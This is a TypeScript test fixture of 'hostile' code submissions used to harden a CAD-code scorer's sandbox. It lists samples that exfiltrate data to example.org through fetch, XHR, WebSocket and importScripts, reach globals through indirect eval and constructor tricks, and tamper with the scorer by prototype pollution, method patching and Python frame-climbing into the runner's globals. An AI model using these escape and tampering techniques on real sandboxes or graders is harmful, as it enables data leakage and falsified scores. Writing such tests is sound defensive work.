import type { FailureClass } from "../../src/kernel/failure";

/**
 * Candidates that try to hang, crash, escape or corrupt the scorer. The Node suite runs them on
 * the real worker-thread pool and the page suite types them into the editor; both check the
 * outcome below and then that the next candidate is scored exactly as on a clean worker.
 */
export interface HostileCandidate {
  id: string;
  /** What the candidate tries. */
  attempt: string;
  code: string;
  /** `built` for code that must work; otherwise the failure class and what its message must say. */
  expect: { outcome: "built"; volume: number } | { outcome: "failed"; class: FailureClass; message: RegExp };
  /**
   * What "the next build still works" means here, besides the next candidate's score being
   * identical (JSON without `elapsed_ms`) to its score on a clean worker:
   * `same` — the same worker goes on; `replaced` — the candidate cost its worker, which was
   * replaced (time limit, crash, or a realm damaged beyond repair).
   */
  after: "same" | "replaced";
  /** Where the page differs from `after`. */
  afterInPage?: "same" | "replaced";
  /** Where the candidate applies, when the other side lacks what it aims at. */
  only?: "node" | "page";
  /**
   * A shorter wall-clock backstop for a candidate that only the backstop can stop, so the suite
   * does not wait the whole default for it; far above what any legitimate candidate here takes.
   */
  backstopMs?: number;
}

const box = `const { makeBaseBox } = replicad;\nconst main = () => makeBaseBox(10, 20, 30);`;
const sandboxed = /is not available to CAD code/;

/** A model whose source is a 5 MB table of numbers; its height is read from the table's length. */
function fiveMegabyteSource(): string {
  const row = Array.from({ length: 100 }, () => "0.5").join(", ");
  const rows = Array.from({ length: 12_500 }, () => `  ${row},`).join("\n");
  return `const { makeBaseBox } = replicad;\n\nconst table = [\n${rows}\n];\n\nconst main = () => makeBaseBox(10, 10, table.length / 125000);\n`;
}

export const FIVE_MEGABYTES = 5 * 1024 * 1024;

/**
 * The work budget the suites run the corpus with: a tenth of the default, so the million
 * booleans stop after about 3 s of quiet work instead of 30; every legitimate candidate here
 * needs under 10 units.
 */
export const HOSTILE_BUDGET = 3_000;

export const hostileCandidates: HostileCandidate[] = [
  {
    id: "infinite-loop",
    attempt: "never return",
    code: "const main = () => {\n  while (true) {}\n};",
    expect: { outcome: "failed", class: "timeout", message: /used up its work budget of \d+ units and was stopped at line 2/ },
    after: "same",
  },
  {
    id: "native-hang",
    attempt: "hang inside one native call the work budget cannot count (a backtracking regular expression)",
    code: 'const main = () => {\n  /(a+)+$/.test("a".repeat(40) + "!");\n  return replicad.makeBaseBox(1, 1, 1);\n};',
    expect: { outcome: "failed", class: "timeout", message: /within 10 s of wall-clock time and was stopped/ },
    after: "replaced",
    backstopMs: 10_000,
  },
  {
    id: "deep-recursion",
    attempt: "overflow the stack",
    code: "const depth = (n) => depth(n + 1) + 1;\nconst main = () => depth(0);",
    expect: { outcome: "failed", class: "kernel_error", message: /Maximum call stack size exceeded/ },
    after: "same",
  },
  {
    id: "huge-typed-array",
    attempt: "allocate a terabyte at once",
    code: "const main = () => {\n  const buffer = new Float64Array(2 ** 40);\n  return buffer.length;\n};",
    expect: { outcome: "failed", class: "out_of_memory", message: /Invalid typed array length/ },
    after: "same",
    // The page replaces its worker after any out-of-memory failure: its WASM heap may be exhausted.
    afterInPage: "replaced",
  },
  {
    id: "js-heap-hoard",
    attempt: "fill the JavaScript heap until the thread dies",
    code: "const main = () => {\n  const hoard = [];\n  while (true) hoard.push(new Array(1e5).fill({ a: 1 }));\n};",
    expect: { outcome: "failed", class: "out_of_memory", message: /ran out of memory/ },
    after: "replaced",
    // The page's own recovery suite covers the browser's version (typed arrays until the worker dies).
    only: "node",
  },
  {
    id: "million-booleans",
    attempt: "fuse a million tiny boxes",
    code: `const { makeBaseBox } = replicad;
const main = () => {
  let shape = makeBaseBox(1, 1, 1);
  for (let i = 0; i < 1e6; i++) shape = shape.fuse(makeBaseBox(0.5, 0.5, 0.5).translate(i * 0.3, 0, 0));
  return shape;
};`,
    expect: { outcome: "failed", class: "timeout", message: /used up its work budget of \d+ units and was stopped at line 4/ },
    after: "same",
  },
  {
    id: "nan-dimensions",
    attempt: "build a box of NaN size",
    code: "const { makeBaseBox } = replicad;\nconst main = () => makeBaseBox(NaN, 10, 10);",
    expect: { outcome: "failed", class: "kernel_error", message: /makeBaseBox failed: argument 1 is NaN/ },
    after: "same",
  },
  {
    id: "infinite-dimensions",
    attempt: "build a box of infinite size",
    code: "const { makeBaseBox } = replicad;\nconst main = () => makeBaseBox(Infinity, 10, -Infinity);",
    expect: { outcome: "failed", class: "kernel_error", message: /makeBaseBox failed: argument 1 is Infinity/ },
    after: "same",
  },
  {
    id: "non-shape-return",
    attempt: "return a number",
    code: "const main = () => 42;",
    expect: { outcome: "failed", class: "invalid_return", message: /number/ },
    after: "same",
  },
  {
    id: "fake-part-return",
    attempt: "return something that looks like a part",
    code: 'const main = () => [{ shape: { volume: 1000 }, name: "fake" }];',
    expect: { outcome: "failed", class: "invalid_return", message: /shape/ },
    after: "same",
  },
  {
    id: "throw-string",
    attempt: "throw a string",
    code: 'const main = () => {\n  throw "no model today";\n};',
    expect: { outcome: "failed", class: "kernel_error", message: /main threw a string: no model today/ },
    after: "same",
  },
  {
    id: "throw-null",
    attempt: "throw null",
    code: "const main = () => {\n  throw null;\n};",
    expect: { outcome: "failed", class: "kernel_error", message: /main threw null/ },
    after: "same",
  },
  {
    id: "throw-object",
    attempt: "throw a plain object whose toString throws too",
    code: 'const main = () => {\n  throw { toString() { throw new Error("again"); } };\n};',
    expect: { outcome: "failed", class: "kernel_error", message: /main threw an object/ },
    after: "same",
  },
  {
    id: "throw-symbol",
    attempt: "throw a symbol",
    code: 'const main = () => {\n  throw Symbol("boom");\n};',
    expect: { outcome: "failed", class: "kernel_error", message: /main threw a symbol: Symbol\(boom\)/ },
    after: "same",
  },
  {
    id: "patch-object-prototype",
    attempt: "patch Object.prototype and Array.prototype.map for the next candidate",
    code: `Object.prototype.injected = 1;\nArray.prototype.map = function () { return []; };\n${box}`,
    expect: { outcome: "failed", class: "kernel_error", message: /Object\.prototype\.injected/ },
    after: "same",
  },
  {
    id: "patch-math",
    attempt: "make every measurement the scorer takes return zero",
    code: `Math.abs = () => 0;\nMath.max = () => 0;\n${box}`,
    expect: { outcome: "failed", class: "kernel_error", message: /Math\.abs/ },
    after: "same",
  },
  {
    id: "patch-replicad-class",
    attempt: "make translate a no-op for the next candidate",
    code: `const { makeBaseBox } = replicad;
const main = () => {
  const proto = Object.getPrototypeOf(Object.getPrototypeOf(makeBaseBox(1, 1, 1)));
  proto.translate = function () { return this; };
  return makeBaseBox(10, 20, 30);
};`,
    expect: { outcome: "failed", class: "kernel_error", message: /replicad\.\w+\.prototype\.translate/ },
    after: "same",
  },
  {
    id: "patch-replicad-namespace",
    attempt: "replace a replicad function",
    code: `"use strict";\nreplicad.makeBaseBox = () => { throw new Error("hijacked"); };\n${box}`,
    expect: { outcome: "failed", class: "kernel_error", message: /read.only|not extensible|Cannot assign/ },
    after: "same",
  },
  {
    id: "deferred-patch",
    attempt: "patch Object.prototype from a promise chain that outlives the build",
    code: `let later = Promise.resolve();\nfor (let i = 0; i < 200; i++) later = later.then(() => {});\nlater.then(() => { Object.prototype.evil = 1; });\n${box}`,
    expect: { outcome: "failed", class: "kernel_error", message: /after its build had returned \(Object\.prototype\.evil\)/ },
    after: "same",
  },
  {
    id: "freeze-object-prototype",
    attempt: "freeze Object.prototype, which cannot be undone",
    code: `Object.freeze(Object.prototype);\n${box}`,
    expect: { outcome: "failed", class: "kernel_error", message: /Object\.prototype/ },
    after: "replaced",
  },
  {
    id: "self-close",
    attempt: "close the worker",
    code: `${box}\nself.close();`,
    expect: { outcome: "failed", class: "undefined_name", message: /self is not available/ },
    after: "same",
  },
  {
    id: "post-message",
    attempt: "answer the page in the worker's place",
    code: 'const main = () => postMessage({ ok: true, parts: [] });',
    expect: { outcome: "failed", class: "undefined_name", message: /postMessage is not available/ },
    after: "same",
  },
  {
    id: "indirect-close",
    attempt: "close the worker through the global object",
    code: 'const main = () => (0, eval)("this").close();',
    expect: { outcome: "failed", class: "undefined_name", message: /close is not available/ },
    after: "same",
    only: "page",
  },
  {
    id: "indirect-post-message",
    attempt: "post with any postMessage found on the worker scope or its prototypes",
    code: `const main = () => {
  const scope = (0, eval)("this");
  for (let owner = scope; owner; owner = Object.getPrototypeOf(owner)) {
    const post = Object.getOwnPropertyDescriptor(owner, "postMessage")?.value;
    if (post) post.call(scope, { forged: true });
  }
};`,
    expect: { outcome: "failed", class: "undefined_name", message: sandboxed },
    after: "same",
    only: "page",
  },
  {
    id: "listen-for-next-request",
    attempt: "read the next candidate's build request",
    code: 'const main = () => EventTarget.prototype.addEventListener.call((0, eval)("this"), "message", (e) => e.stopImmediatePropagation());',
    expect: { outcome: "failed", class: "undefined_name", message: /addEventListener on the worker is not available/ },
    after: "same",
    only: "page",
  },
  {
    id: "fetch",
    attempt: "send data to another host",
    code: 'const main = () => fetch("https://example.org/?leak=1");',
    expect: { outcome: "failed", class: "undefined_name", message: /fetch is not available/ },
    after: "same",
  },
  {
    id: "xhr",
    attempt: "open an XMLHttpRequest",
    code: 'const main = () => {\n  const request = new XMLHttpRequest();\n  request.open("GET", "https://example.org");\n};',
    expect: { outcome: "failed", class: "undefined_name", message: /XMLHttpRequest is not available/ },
    after: "same",
  },
  {
    id: "websocket",
    attempt: "open a WebSocket",
    code: 'const main = () => new WebSocket("wss://example.org");',
    expect: { outcome: "failed", class: "undefined_name", message: /WebSocket is not available/ },
    after: "same",
  },
  {
    id: "import-scripts",
    attempt: "load a script from another host",
    code: 'const main = () => importScripts("https://example.org/x.js");',
    expect: { outcome: "failed", class: "undefined_name", message: /importScripts is not available/ },
    after: "same",
  },
  {
    id: "indexed-db",
    attempt: "open browser storage",
    code: 'const main = () => indexedDB.open("cadforge");',
    expect: { outcome: "failed", class: "undefined_name", message: /indexedDB is not available/ },
    after: "same",
  },
  {
    id: "nested-worker",
    attempt: "start a worker the time limit cannot stop",
    code: 'const main = () => new Worker("data:text/javascript,while(true){}");',
    expect: { outcome: "failed", class: "undefined_name", message: /Worker is not available/ },
    after: "same",
  },
  {
    id: "eval-this-fetch",
    attempt: "reach fetch through an indirect eval",
    code: 'const main = () => (0, eval)("this").fetch("https://example.org/?leak=2");',
    expect: { outcome: "failed", class: "undefined_name", message: /fetch is not available/ },
    after: "same",
  },
  {
    id: "function-this-fetch",
    attempt: "reach fetch through the Function constructor",
    code: 'const main = () => Function("return this")().fetch("https://example.org/?leak=3");',
    expect: { outcome: "failed", class: "undefined_name", message: /fetch is not available/ },
    after: "same",
  },
  {
    id: "constructor-constructor-fetch",
    attempt: "reach fetch through ({}).constructor.constructor",
    code: 'const main = () => ({}).constructor.constructor("return fetch")()("https://example.org/?leak=4");',
    expect: { outcome: "failed", class: "undefined_name", message: /fetch is not available/ },
    after: "same",
  },
  {
    id: "sloppy-this-storage",
    attempt: "reach storage through a sloppy function's this",
    code: 'function scope() { return this; }\nconst main = () => scope().caches.open("x");',
    expect: { outcome: "failed", class: "undefined_name", message: /caches is not available/ },
    after: "same",
    only: "page",
  },
  {
    id: "string-import",
    attempt: "import a module from code built from a string",
    code: 'const main = () => (async () => {}).constructor("return import(\'https://example.org/x.js\')")();',
    expect: { outcome: "failed", class: "undefined_name", message: /import\(\) in code built from a string is not available/ },
    after: "same",
  },
  {
    id: "indirect-timer",
    attempt: "schedule work for the next candidate's turn",
    code: 'const main = () => (0, eval)("setTimeout")(() => { Object.prototype.late = 1; }, 0);',
    expect: { outcome: "failed", class: "undefined_name", message: /setTimeout is not available/ },
    after: "same",
  },
  {
    id: "indirect-process",
    attempt: "end the thread through process",
    code: 'const main = () => (0, eval)("process").exit(3);',
    expect: { outcome: "failed", class: "undefined_name", message: /process is not available/ },
    after: "same",
    only: "node",
  },
  {
    id: "five-megabytes",
    attempt: "a 5 MB source file",
    code: fiveMegabyteSource(),
    expect: { outcome: "built", volume: 1000 },
    after: "same",
  },
  {
    id: "bom-crlf-unicode",
    attempt: "a byte-order mark, CRLF line ends and Unicode identifiers",
    code: "\uFEFFconst { makeBaseBox } = replicad;\r\nconst größe = 12;\r\nconst 高さ = 5;\r\n\r\nconst main = () => makeBaseBox(größe, größe, 高さ);\r\n",
    expect: { outcome: "built", volume: 720 },
    after: "same",
  },
  {
    id: "python-honest-stdlib",
    attempt: "(none: CadQuery that imports, raises and defines as honest code does must not be taken for tampering)",
    code: `import cadquery as cq
import fractions, statistics, dataclasses, re

@dataclasses.dataclass
class Size:
    side: float = statistics.mean([8, 12])

try:
    cq.Workplane().box(1, 1, 1).faces(">W")
except Exception as e:
    print(re.sub("W", "Z", str(e)), fractions.Fraction(1, 3))
result = cq.Workplane().box(Size().side, 10, 10)
`,
    expect: { outcome: "built", volume: 1000 },
    after: "same",
  },
  {
    id: "python-patch-cadquery",
    attempt: "patch a CadQuery method for every later candidate of the interpreter",
    code: "import cadquery as cq\ncq.Workplane.box = lambda self, *a, **k: self.sphere(1)\nresult = cq.Workplane().sphere(5)\n",
    expect: { outcome: "failed", class: "kernel_error", message: /changed Python's shared state \([^)]*Workplane/ },
    after: "replaced",
  },
  {
    id: "python-private-sys",
    attempt: "reach the runner through an allowed module's private sys and change what it accepts as a result",
    code: `import cadquery as cq
import collections
runner = collections._sys.modules["_cadforge_runner"]
runner.RESULT_NAMES = ("result", "anything")
result = cq.Workplane().box(10, 10, 10)
`,
    expect: { outcome: "failed", class: "kernel_error", message: /changed Python's shared state \([^)]*_cadforge_runner/ },
    after: "replaced",
  },
  {
    id: "python-frames",
    attempt: "climb a traceback's frames to the runner's globals and widen the numbers editability forgives",
    code: `import cadquery as cq
try:
    raise ValueError("climb")
except ValueError as e:
    frame = e.__traceback__.tb_frame
    while "TRIVIAL_NUMBERS" not in frame.f_globals:
        frame = frame.f_back
    frame.f_globals["TRIVIAL_NUMBERS"].add(10)
result = cq.Workplane().box(10, 10, 10)
`,
    expect: { outcome: "failed", class: "kernel_error", message: /changed Python's shared state \([^)]*TRIVIAL_NUMBERS/ },
    after: "replaced",
  },
  {
    id: "python-rewrite-code",
    attempt: "rewrite the code of a CadQuery method in place, leaving the class as it was",
    code: "import cadquery as cq\ncq.Workplane.box.__code__ = (lambda self, *a, **k: self.sphere(1)).__code__\nresult = cq.Workplane().sphere(5)\n",
    expect: { outcome: "failed", class: "kernel_error", message: /Workplane\.box \(its __code__ was replaced\)/ },
    after: "replaced",
  },
  {
    id: "python-profiler",
    attempt: "leave a profiler that would run inside every later Python build",
    code: "import cadquery as cq\nimport collections\ncollections._sys.setprofile(lambda *a: None)\nresult = cq.Workplane().box(10, 10, 10)\n",
    expect: { outcome: "failed", class: "kernel_error", message: /sys\.setprofile/ },
    after: "replaced",
  },
];

/** The candidate scored before and after each hostile one: a task's starting code. */
export const PROBE_TASK_ID = "wall_j_hook_120n";

export function candidatesFor(where: "node" | "page"): HostileCandidate[] {
  return hostileCandidates.filter((candidate) => !candidate.only || candidate.only === where);
}
